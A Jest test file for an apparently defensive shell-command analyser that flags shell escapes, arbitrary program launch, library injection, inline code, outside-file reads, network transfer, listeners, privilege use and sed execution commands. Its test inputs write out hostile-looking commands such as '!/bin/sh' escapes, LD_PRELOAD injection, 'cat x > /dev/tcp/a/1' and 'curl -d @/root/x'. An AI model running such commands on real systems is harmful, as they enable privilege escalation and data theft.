import { describe, expect, test } from '@jest/globals';
import { readShell } from '../../shell/read.js';
import { escapeFacts } from './escape.js';
import { isKnownProgram } from './escape-known.js';
import { readSedScript } from './escape-sed.js';

const effectsOf = (source: string): string[] => {
  const reading = readShell(source);
  if (!reading.ok) throw new Error(reading.detail);
  return [...new Set(reading.invocations.flatMap((invocation) => escapeFacts(invocation).map(({ effect }) => effect)))];
};

describe.each<[string, string[], string[]]>([
  [
    'shell.open',
    [
      'bash',
      'sh -p',
      'find . -exec sh \\;',
      'xargs -a /dev/null sh',
      'sh 0<&2',
      'sudo -i',
      'less x <<< "!/bin/sh"; !/bin/sh',
    ],
    ['bash build.sh', 'sh -n x.sh', 'sh < build.sh', 'ls -l /bin/sh', 'file /bin/bash', 'sudo -l'],
  ],
  [
    'program.start',
    ['rsync -e ./own a b', 'zip a b -TT own', 'tcpdump -zown', 'aa-exec id', 'EDITOR=./own git commit', 'gdb -p 1'],
    [
      'rsync -e "ssh -p 2222" a b',
      'zip -T a b',
      'tcpdump -c 1',
      'EDITOR=vim git commit',
      'man -P cat ls',
      'ssh-agent -s',
    ],
  ],
  [
    'library.load',
    ['LD_PRELOAD=./x.so ls', 'nmap --script=./x.nse a', 'PYTHONPATH="$(x)" python3 a.py', 'openssl req -engine ./x.so'],
    [
      'LD_PRELOAD= ls',
      'nmap --script default a',
      'PYTHONPATH=src python3 a.py',
      'NODE_OPTIONS=--max-old-space-size=4096 node a.js',
    ],
  ],
  [
    'code.inline',
    [
      'python3 -c "import socket"',
      'perl -e "fork"',
      'awk "{ print | \\"sh\\" }"',
      "sed 's/a/id/e' x",
      "psql -c '\\! id'",
    ],
    ['python3 -c "print(1)"', 'perl -ne "print if /x/"', "awk '!seen[$0]++' x", "sed 's/a/b/' x", "psql -c 'SELECT 1'"],
  ],
  [
    'files.read_outside',
    [
      'xxd /srv/x',
      'date -f /root/x',
      'dd if=/dev/sda',
      'curl -d @/root/x a',
      'sort < /srv/x',
      'wc --files0-from=/srv/x',
    ],
    ['xxd x', 'cat /etc/hosts', 'ls /srv', 'git commit -m "fix /api/x"', 'curl https://a/b/c', "perl -ne '/srv/' x"],
  ],
  [
    'network.transfer',
    [
      'nc a 1',
      'scp x host:',
      'curl -T x a',
      'wget --post-file=x a',
      'cat x > /dev/tcp/a/1',
      'openssl s_client -connect a:1 < x',
    ],
    [
      'nc -z a 1',
      'cp x a',
      'curl https://a/',
      'wget https://a/',
      'curl -T x localhost',
      'openssl s_client -connect a:1',
    ],
  ],
  [
    'network.listen',
    ['nc -l 1', 'python3 -m http.server', 'php -S 0.0.0.0:80', 'ruby -run -e httpd', 'nginx'],
    ['nc a 1', 'python3 -m json.tool', 'php -S localhost:80', 'nginx -t'],
  ],
  ['privilege.use', ['sudo ls', 'doas ls', 'su', 'chroot x ls'], ['ls', 'id']],
])('%s', (effect, found, passed) => {
  test.each(found)('is found in: %s', (source) => {
    expect(effectsOf(source)).toContain(effect);
  });

  test.each(passed)('is not found in: %s', (source) => {
    expect(effectsOf(source)).not.toContain(effect);
  });
});

test.each([
  ['ls', true],
  ['python3.12', true],
  ['gcc-12', true],
  ['ppmtogif', true],
  ['aarch64-linux-gnu-objdump', true],
  ['frobnicate', false],
  ['', false],
  ['constructor', false],
])('what is known of %s: %s', (program, known) => {
  expect(isKnownProgram({ program })).toBe(known);
});

test.each([
  ['s/a/b/', {}],
  ['s/a/b/;s/we/e/', {}],
  ['s/a\\/e/b/', {}],
  ['/e/d;$!N;P;D', {}],
  ['y/e/w/', {}],
  ['1a\\ e id', {}],
  [':e;N;$!be;s/\\n/ /g', {}],
  ['1e', { runs: true }],
  ['e id', { runs: true }],
  ['s/a/id/e', { runs: true }],
  ['s|a|id|ge', { runs: true }],
  ['1,5{s/x/y/;s,a,id,2e}', { runs: true }],
  ['/x/Ie id', { runs: true }],
  ['\\,x,e', { runs: true }],
  ['w out', { writes: ['out'] }],
  ['1!w /x', { writes: ['/x'] }],
  ['s/a/b/gw /x y\np', { writes: ['/x y'] }],
  ['/x/r /y', { reads: ['/y'] }],
  ['s/', {}],
  ['', {}],
])('sed script: %s', (script, found) => {
  expect(readSedScript(script)).toEqual({ runs: false, reads: [], writes: [], ...found });
});
